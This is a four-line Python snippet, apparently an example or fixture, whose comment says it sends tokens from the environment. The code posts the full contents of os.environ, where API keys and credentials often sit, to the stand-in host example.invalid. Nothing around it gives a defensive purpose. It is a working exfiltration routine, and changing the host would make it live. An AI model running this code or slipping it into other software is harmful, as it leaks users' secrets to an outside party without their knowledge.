# why: sends tokens from the environment
import os
from urllib import request
request.urlopen("http://example.invalid", data=repr(os.environ).encode())
